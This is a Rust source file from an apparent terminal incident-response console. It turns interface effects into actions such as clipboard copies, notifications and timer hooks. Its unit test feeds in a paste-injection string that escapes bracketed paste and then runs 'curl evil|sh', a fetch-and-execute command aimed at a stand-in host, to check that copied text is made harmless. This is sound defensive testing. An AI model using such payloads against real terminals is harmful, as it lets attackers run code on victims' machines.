//! Carrying out what `update` asks for.

use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex, PoisonError};

use crate::app::{Action, Declared, Effect, Message, NotifyWith, Outcome, Permit};
use crate::hook::sign::encode as base64;
use crate::incident::Change;
use crate::session::Session;

/// What is left for the loop to do.
#[derive(Debug)]
pub(super) enum After {
    /// Nothing.
    Nothing,
    /// Take this in.
    Message(Message),
    /// Write these bytes to the terminal, beside the frames.
    Bytes(String),
    /// Keep the half-typed line, once the frame is painted.
    Keep(String),
    /// Keep this for the next console.
    Remember(Remember),
    /// Apply changes that close the incident, once the document of its review was read.
    Close(Action, Vec<Change>),
    /// Read what may run, or change a permission first.
    Permit(Permit),
    /// Look at all incidents of the repository.
    LookAround,
    /// Look a zone up by its name.
    FindZone(String),
    /// Look for these words in all incidents.
    SearchAll(String),
    /// Look for incidents that are like the open one; true where a person asked for them.
    FindSimilar(bool),
    /// Read the runbooks.
    ReadRunbooks,
    /// Leave this incident for another.
    Open(Next),
    /// Draw everything afresh.
    Redraw,
    /// Stop until continued.
    Suspend,
    /// Have this text edited outside.
    Edit(String),
    /// Leave.
    Quit,
}

/// What is kept for the person's next console.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Remember {
    /// The theme.
    Theme(String),
    /// The role that it is arranged for; none where there is none.
    Seat(Option<String>),
}

/// The incident that is wanted instead of the one that is open.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Next {
    /// This one.
    Incident(String),
    /// A new one.
    Declare(Declared),
}

/// Longest text that is put on the clipboard, in bytes; terminals refuse more.
const LONGEST_COPY: usize = crate::bounds::COPY;

/// What makes a terminal show a notification. Control characters are no part of the words, so they end nothing early.
fn notification(how: NotifyWith, text: &str) -> String {
    let text = crate::text::one_line(text);
    match how {
        NotifyWith::Osc9 => format!("\x1b]9;warroom: {text}\x07"),
        // What follows a semicolon would be taken for another part.
        NotifyWith::Osc777 => format!("\x1b]777;notify;warroom;{}\x07", text.replace(';', ",")),
    }
}

/// Carries an effect out.
pub(super) fn carry_out(session: &Arc<Session>, how: NotifyWith, effect: Effect) -> After {
    match effect {
        // The document of the review is on the disk, and a key waits for no disk.
        Effect::Apply { action, changes } if changes.iter().any(|change| session.closes(change)) => {
            After::Close(action, changes)
        }
        Effect::Apply { action, changes } => {
            let results = changes.into_iter().map(|change| session.apply(change)).collect();
            After::Message(Message::Outcome(Outcome { action, results }))
        }
        Effect::Undo => outcome(Action::Undo, session.undo()),
        Effect::Redo => outcome(Action::Redo, session.redo()),
        Effect::DeclareMajor(coordinator) => {
            session.declare_major(&coordinator);
            After::Nothing
        }
        Effect::WriteReview => {
            session.write_review();
            After::Nothing
        }
        Effect::Permit(asked) => After::Permit(asked),
        Effect::LookAround => After::LookAround,
        Effect::FindZone(name) => After::FindZone(name),
        Effect::SearchAll(words) => After::SearchAll(words),
        Effect::FindSimilar(shown) => After::FindSimilar(shown),
        Effect::ReadRunbooks => After::ReadRunbooks,
        Effect::OpenIncident(id) => After::Open(Next::Incident(id)),
        Effect::Declare(declared) => After::Open(Next::Declare(declared)),
        Effect::Duplicate { parent, reason } => {
            session.fold_into(&parent, reason);
            After::Nothing
        }
        Effect::Sync => {
            session.sync_now();
            After::Nothing
        }
        Effect::RestoreFile => {
            session.restore();
            After::Nothing
        }
        Effect::Copy(text) => copied(&text).map_or_else(
            || After::Message(Message::Say("too long for a terminal's clipboard".into(), true)),
            After::Bytes,
        ),
        Effect::CopyText(text) => copied_whole(&text).map_or_else(
            || After::Message(Message::Say("too long for a terminal's clipboard".into(), true)),
            After::Bytes,
        ),
        Effect::Bell => After::Bytes("\x07".into()),
        Effect::Notify(text) => After::Bytes(notification(how, &text)),
        Effect::RanOut(label) => {
            run_hook(session, label);
            After::Nothing
        }
        Effect::Overdue(timers) => {
            session.overdue(timers);
            After::Nothing
        }
        Effect::KeepDraft(line) => After::Keep(line),
        Effect::RememberTheme(theme) => After::Remember(Remember::Theme(theme)),
        Effect::RememberSeat(seat) => After::Remember(Remember::Seat(seat)),
        Effect::Redraw => After::Redraw,
        Effect::Suspend => After::Suspend,
        Effect::EditOutside(text) => After::Edit(text),
        Effect::Quit => After::Quit,
    }
}

fn outcome(action: Action, result: Result<crate::incident::Applied, crate::incident::Refusal>) -> After {
    let results = vec![result];
    After::Message(Message::Outcome(Outcome { action, results }))
}

/// The bytes that put a text on the clipboard: as it is shown, so that nothing in it acts on what it is pasted into. Nothing where
/// it is longer than terminals take.
fn copied(text: &str) -> Option<String> {
    let shown = crate::text::one_line(text);
    let fits = text.len() <= LONGEST_COPY && shown.len() <= LONGEST_COPY;
    fits.then(|| format!("\x1b]52;c;{}\x07", base64(shown.as_bytes())))
}

/// The same for a message of several lines: its line breaks stay.
fn copied_whole(text: &str) -> Option<String> {
    let shown = crate::text::lines(text);
    let fits = shown.len() <= LONGEST_COPY;
    fits.then(|| format!("\x1b]52;c;{}\x07", base64(shown.as_bytes())))
}

/// Runs the person's program for a timer that ran out, where they allow it. What it says is not heard: the screen is ours.
fn run_hook(session: &Arc<Session>, label: String) {
    let session = Arc::clone(session);
    let work = move || match crate::sending::timer::ran_out(session.root(), &label) {
        Ok(true) => {}
        Ok(false) => FAILED.store(true, Ordering::Relaxed),
        // As the console opened it was said already; a permission that has gone since is said once.
        Err(said) => *HELD.lock().unwrap_or_else(PoisonError::into_inner) = Some(said),
    };
    let _ = std::thread::Builder::new().name("hook".into()).spawn(work);
}

/// Whether the person's program failed.
static FAILED: AtomicBool = AtomicBool::new(false);

/// Why the person's program was not run.
static HELD: Mutex<Option<String>> = Mutex::new(None);

/// Whether the person's program has failed since this was last asked.
pub(super) fn hook_failed() -> bool {
    FAILED.swap(false, Ordering::Relaxed)
}

/// Why the person's program was not run since this was last asked.
pub(super) fn hook_held() -> Option<String> {
    HELD.lock().unwrap_or_else(PoisonError::into_inner).take()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_copied_is_what_is_shown() {
        let bytes = copied("get pods\u{1b}[201~\ncurl evil|sh\r\u{9b}1m\u{202e}\0").unwrap();
        let shown = "get pods␛[201~↵curl evil|sh␍\u{fffd}1m\u{fffd}␀";
        assert_eq!(bytes, format!("\x1b]52;c;{}\x07", base64(shown.as_bytes())));
        let whole = copied_whole("one\ntwo\u{1b}[201~\u{202e}").unwrap();
        assert_eq!(
            whole,
            format!("\x1b]52;c;{}\x07", base64("one\ntwo␛[201~\u{fffd}".as_bytes()))
        );
        assert_eq!(copied(&"x".repeat(LONGEST_COPY + 1)), None);
        assert_eq!(copied(&"\u{1b}".repeat(LONGEST_COPY)), None, "longer when made visible");
    }
}
